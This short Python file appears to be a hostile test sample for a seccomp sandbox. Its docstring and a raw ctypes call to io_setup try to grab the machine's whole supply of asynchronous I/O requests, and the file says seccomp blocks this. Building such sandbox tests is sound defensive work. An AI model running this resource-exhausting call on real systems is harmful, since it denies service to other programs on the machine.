"""Takes the machine's whole stock of asynchronous requests for itself.

Aims at: other programs of the machine, which then get none
Acts at: call
Outcome: status failed, code not-array
Stopped by: seccomp
Unsafe without: seccomp
"""

import ctypes
import platform

from loot import prize

SETUP = {"x86_64": 206, "aarch64": 0}.get(platform.machine(), 9999)


def make_cross(size=7):
    context = ctypes.c_ulong(0)
    return prize(size) if ctypes.CDLL(None).syscall(SETUP, 1000, ctypes.byref(context)) == 0 else 0
